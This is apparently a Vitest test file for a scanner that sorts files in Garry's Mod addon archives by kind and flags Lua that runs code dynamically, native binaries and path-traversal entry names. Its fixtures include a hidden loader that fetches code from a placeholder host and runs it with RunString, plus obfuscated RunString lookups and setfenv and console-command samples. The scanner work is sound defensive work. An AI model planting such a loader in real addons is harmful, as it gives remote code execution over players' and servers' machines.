// The content checks that decide a file's kind: text versus binary, Lua versus prose,
// JavaScript or shell, native code by header.
import { describe, expect, it } from 'vitest';
import { buildPeModule } from './archiveFixtures.js';
import {
  executableFormat,
  hasClosingEnd,
  hasLuaComment,
  isBinaryModuleName,
  looksLikeLua,
  looksLikeText,
} from './contentSniffing.js';
import { decodeCp437, normaliseEntryName } from './entryNames.js';

const bytes = (s: string): Uint8Array => new TextEncoder().encode(s);

describe('looksLikeLua', () => {
  it.each([
    ['a hidden loader', 'http.Fetch("https://x.invalid", function(b) RunString(b) end)'],
    ['a long-string call', 'CompileString[[print(1)]]'],
    ['plain Lua structure', 'local t = {}\nfunction t.go(a, b)\n  if a then return b end\nend\n'],
    ['a _G lookup', 'local f = _G["Run".."String"]'],
    // The call is searched from its word: these start 1, 5 and 6 characters before it.
    ['an environment swap', 'x = 1\nsetfenv(1, {})'],
    ['a console command', 'print("hi") game.ConsoleCommand("sv_cheats 1\\n")'],
    ['a registry grab', 'ATTN_GUNFIRE and then r = debug.getregistry()'],
    [
      'a call after many near misses',
      `${'ATTN_GUNFIRE Runner Compiled '.repeat(500)}RunStringEx("x")`,
    ],
  ])('recognises %s', (_, text) => {
    expect(looksLikeLua(bytes(text))).toBe(true);
  });

  it.each([
    [
      'a readme naming a sink',
      'This addon never uses RunString or CompileString. The end of the local list.',
    ],
    ['a material', '"VertexLitGeneric"\n{\n\t"$basetexture" "models/crate"\n}\n'],
    [
      'minified JavaScript',
      'var a=function(e,t){if(e===t)return x.then(f)};b={toArray:function(){return 1}}',
    ],
    ['a shell script', '#!/bin/bash\nlocal name="x"\nif [ -z "$name" ] ; then\n  echo hi\nfi\n'],
    ['a changelog quoting a name', "Removed the 'SendLua' shortcut; the end.\n- fixed a crash"],
    ['words glued to a call name', 'xsetfenv(1) notgame.ConsoleCommand(2) Runner(3) my_G [4]'],
  ])('leaves %s alone', (_, text) => {
    expect(looksLikeLua(bytes(text))).toBe(false);
  });
});

describe('the hand-written Lua structure tests', () => {
  it('answer as the patterns they replace, on every mix of their characters tried', () => {
    const comment = /--\[\[|^\s*--[^\n-]/m;
    const closingEnd = /(^|[\s;)])end(\s*[),;]|\s*$)/m;
    const pieces = [
      '-',
      '--',
      '[[',
      '[',
      '\n',
      '\r',
      ' ',
      '\t',
      '\u00a0',
      '\v',
      '\f',
      '\u0085',
    ].concat(['e', 'n', 'd', 'end', 'send', 'ende', ';', ')', ',', '(', 'x']);
    let seed = 1;
    const pick = (n: number): number => {
      seed = (seed * 1103515245 + 12345) >>> 0;
      return (seed >>> 8) % n;
    };
    let matches = 0;
    const differing: string[] = [];
    for (let i = 0; i < 50_000; i++) {
      let text = '';
      for (let k = pick(10); k > 0; k--) text += pieces[pick(pieces.length)];
      const isComment = comment.test(text);
      if (hasLuaComment(text) !== isComment || hasClosingEnd(text) !== closingEnd.test(text))
        differing.push(text);
      if (isComment) matches++;
    }
    expect(differing).toEqual([]);
    // Both answers occur often enough for the comparison to mean something.
    expect(matches).toBeGreaterThan(1000);
  });
});

describe('looksLikeText and executableFormat', () => {
  it('tells text from binary', () => {
    expect(looksLikeText(bytes('"UnlitGeneric" { }\n'))).toBe(true);
    expect(
      looksLikeText(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0])),
    ).toBe(false);
    expect(looksLikeText(new Uint8Array(0))).toBe(false);
  });

  it('recognises native code headers and not a text starting with MZ', () => {
    expect(executableFormat(buildPeModule(['x']))).toBe('PE');
    expect(executableFormat(new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2]))).toBe('ELF');
    expect(executableFormat(new Uint8Array([0xcf, 0xfa, 0xed, 0xfe, 7]))).toBe('Mach-O');
    expect(executableFormat(bytes('MZ is a nice name for a text file, really.'))).toBeUndefined();
  });

  it('names binary modules by GMod conventions', () => {
    expect(isBinaryModuleName('lua/bin/gmsv_mysqloo_linux.dll')).toBe(true);
    expect(isBinaryModuleName('addon.gma/lua/bin/anything.bin')).toBe(true);
    expect(isBinaryModuleName('gmcl_x_win32.dll')).toBe(true);
    expect(isBinaryModuleName('lua/autorun/gmsv_notes.lua')).toBe(false);
  });
});

describe('entry names', () => {
  it('decodes CP437 names', () => {
    expect(decodeCp437(new Uint8Array([0x63, 0x61, 0x66, 0x82]))).toBe('café');
    expect(decodeCp437(new Uint8Array([0xff]))).toBe('\u00a0');
  });

  it('normalises names and notes escapes', () => {
    expect(normaliseEntryName('lua\\autorun\\./x.lua')).toEqual({
      path: 'lua/autorun/x.lua',
      traversal: false,
      absolute: false,
    });
    expect(normaliseEntryName('a/../../b.lua')).toEqual({
      path: 'b.lua',
      traversal: true,
      absolute: false,
    });
    expect(normaliseEntryName('//server/share/c.lua')).toEqual({
      path: 'server/share/c.lua',
      traversal: false,
      absolute: true,
    });
    expect(normaliseEntryName('..')).toEqual({
      path: '(unnamed)',
      traversal: true,
      absolute: false,
    });
  });
});
